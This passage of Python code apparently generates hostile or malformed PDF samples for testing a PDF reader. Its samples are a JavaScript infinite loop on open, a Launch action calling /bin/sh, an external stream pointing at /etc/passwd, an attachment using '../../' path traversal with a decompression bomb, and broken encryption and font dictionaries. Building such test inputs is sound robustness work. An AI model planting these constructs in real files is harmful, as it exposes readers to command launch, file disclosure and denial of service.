                                       9: b'<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /Parent 9 0 '
                                          b'R /Kids [9 0 R] /AP << /N 9 0 R >> >>',
                                       1: b'<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [9 0 R] '
                                          b'>> >>'}),
      })
many('action',
     {'javascript': lambda: pdf({1: b'<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS '
                                    b'(app.alert\\(1\\); while\\(1\\);) >> /AA << /WC << /S /JavaScript '
                                    b'/JS (x) >> >> >>'}),
      'launch': lambda: pdf({1: b'<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (/bin/sh) '
                                b'/Unix (touch launched) >> >>'}),
      'uri': lambda: pdf({7: PAGE % (b'',
                                     b'/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << '
                                     b'/S /URI /URI (http://127.0.0.1:9/) >> >>]')}),
      'external-stream': lambda: pdf({8: b'<< /Length 0 /F (/etc/passwd) >>\nstream\n\nendstream'}),
      'attachment': lambda: pdf({1: b'<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names '
                                    b'[(../../x) << /Type /Filespec /F (../../x) /EF << /F 9 0 R >> >>] '
                                    b'>> >> >>',
                                 9: stream(bomb(1 << 30),
                                           b'/Filter /FlateDecode /Type /EmbeddedFile')}),
      })
LOCKS = {
    'odd-handler': b'/Filter /Odd /V 9 /R 9',
    'no-filter': b'/V 1',
    'v-0': b'/Filter /Standard /V 0 /R 0 /O () /U () /P 0',
    'long': b'/Filter /Standard /V 2 /R 3 /Length 99999999 /O <%s> /U <%s> /P -4' % (b'00' * 32,
                                                                                     b'00' * 32),
    'short': b'/Filter /Standard /V 1 /R 2 /O <00> /U <00> /P 0',
    'v-5': b'/Filter /Standard /V 5 /R 6 /Length 256 /O <%s> /U <%s> /OE <%s> /UE <%s> /Perms <%s> /P -4 '
           b'/CF << /StdCF << /CFM /AESV3 >> >> /StmF /StdCF /StrF /StdCF' % (b'00' * 48,
                                                                                                                                                                          b'00' * 48,
                                                                                                                                                                          b'00' * 32,
                                                                                                                                                                          b'00' * 32,
                                                                                                                                                                          b'00' * 16)}
many('locked', constant(LOCKS, lambda lock: pdf(trailer=b'/Encrypt << %s >> /ID [<00> <00>]' % lock)))
SFNT = b'\0\1\0\0\xff\xff\0\0\0\0\0\0' + b'glyf\0\0\0\0\xff\xff\xff\xff\xff\xff\xff\xff' * 20
many('font',
     {'empty': lambda: font_file(b'FontFile2',
                                 b''),
      'lying': lambda: font_file(b'FontFile2',
                                 SFNT),
      'cff': lambda: font_file(b'FontFile3',
                               b'\1\0\4\4' + b'\xff' * 400,
                               b'/Subtype /CIDFontType0C'),
      'opentype': lambda: font_file(b'FontFile3',
                                    b'OTTO' + SFNT[4:],
                                    b'/Subtype /OpenType'),
      'type1': lambda: pdf({3: b'<< /Type /Font /Subtype /Type1 /BaseFont /Stand-In /FirstChar 0 '
                               b'/LastChar 255 /FontDescriptor 5 0 R >>',
                            5: WORDS[5][:-2] + b'/FontFile 9 0 R >>',
                            9: stream(b'%!PS-AdobeFont-1.0\n/Encoding 256 array dup 97 /a put readonly '
                                      b'def currentfile eexec ' + bytes(range(256)) * 8,
                                      b'/Length1 999999999 /Length2 -5 /Length3 0')}),
      'itself': lambda: pdf({3: WORDS[3].replace(b'[4 0 R]',
                                                 b'[3 0 R]')}),
      'differences': lambda: pdf({3: b'<< /Type /Font /Subtype /Type1 /BaseFont /Stand-In /Encoding << '
                                     b'/Differences [%s] >> /FontDescriptor 5 0 R >>' % (b'/g1 ' * 300000)}),
      'char-range': lambda: pdf({3: b'<< /Type /Font /Subtype /TrueType /BaseFont /Stand-In /FirstChar '
                                    b'-99999 /LastChar 2147483647 /Widths [1 2 3] /FontDescriptor 5 0 R >>'}),
      })
